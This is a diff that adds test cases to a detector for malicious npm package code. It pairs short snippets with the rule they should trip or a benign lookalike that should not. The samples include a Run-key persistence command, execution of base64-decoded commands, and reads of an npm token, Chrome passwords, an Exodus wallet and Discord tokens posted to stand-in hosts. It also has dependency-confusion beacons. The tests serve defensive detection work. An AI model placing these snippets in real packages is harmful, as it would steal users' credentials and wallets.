@@ -101,6 +101,25 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['a Run key added', "require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d evil.exe')", ['persistence']],
     ['reading the shell startup file is not writing it', "const rc = fs.readFileSync(path.join(os.homedir(), '.zshrc'), 'utf8')", []],
     ['a RegExp exec and a message that names curl start no process', "const m = /v(\\d+)/.exec(s); if (!m) throw new Error('install curl or wget first'); console.log(os.hostname())", []],
+    // A command line decoded and run as a process: GuardDog's npm-exec-base64 shape, as eval of decoded text.
+    ['a decoded command line run', "require('child_process').exec(Buffer.from('ZWNobyBoaQ==', 'base64').toString())", ['decoded-eval']],
+    ['a name assigned from atob, then spawned', "const cp = require('child_process');\nconst cmd = atob(enc);\ncp.execSync(cmd)", ['decoded-eval']],
+    ['a process started with an encoded argument it passes on, not a decoded one', "const cp = require('child_process'); cp.spawnSync(process.execPath, ['worker.js', Buffer.from(JSON.stringify(opts)).toString('base64')])", []],
+    ['minified: a RegExp exec on a one-letter name another statement decodes into, child_process loaded', "let n=require('child_process');var e=String.fromCharCode(65);function p(e){let t=s.exec(e);return t}", []],
+    ['a RegExp exec on decoded text, without child_process', "const m = /x/.exec(atob(s))", []],
+    // The npm token printed by npm itself, and sent.
+    ['the npm token read through npm config and sent', "const t = require('child_process').execSync('npm config get //registry.example/:_authToken').toString(); fetch('https://x.example/?t=' + t)", ['exfiltration']],
+    ['npm config read for the prefix, then a download', "const p = require('child_process').execSync('npm config get prefix').toString(); require('https').get('https://x.example/bin.tgz', save)", []],
+    // Browser, Discord and wallet stores read and sent (stealers run from postinstall).
+    ['a browser password store read and posted', "const db = fs.readFileSync(os.homedir() + '/AppData/Local/Google/Chrome/User Data/Default/Login Data'); require('axios').post(u, db)", ['credential-read', 'exfiltration']],
+    ['a wallet folder walked and posted', "for (const f of fs.readdirSync(path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet'))) fetch(u, { method: 'POST', body: f })", ['credential-read', 'exfiltration']],
+    ["Discord's token store walked and posted", "const dir = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb'); for (const f of fs.readdirSync(dir)) fetch(u, { method: 'POST', body: fs.readFileSync(path.join(dir, f)) })", ['credential-read', 'exfiltration']],
+    ['a Firefox profile named without reading it', "const name = 'logins.json'; console.log(name)", []],
+    // A host named after the package itself: the call home of a dependency-confusion probe.
+    ['a GET to a host that begins with the package name', "const package_name = 'internal-lib'; require('http').get(`http://${package_name}.cb.example.net/`)", ['beacon']],
+    ["the package.json's name concatenated into the host", "require('https').get('https://' + require('./package.json').name + '.t.example.org/ping')", ['beacon']],
+    ['the package name in the path of a registry URL', "require('https').get(`https://registry.example.org/${pkg.name}/-/x.tgz`, save)", []],
+    ['a bucket or host variable in the host', "require('https').get(`https://${bucketName}.s3.amazonaws.com/${version}/bin.tgz`, save); fetch(`https://${hostname}.mirror.example.org/x`)", []],
     ['the same words in comments only', "// sends os.hostname() to https://x.oastify.com\n/* eval(atob(x)) ~/.ssh/id_rsa readFileSync */\nconsole.log('ok')", []],
   ])('%s', (_name, code, expected) => {
     expect(flags(code)).toEqual([...expected].sort());
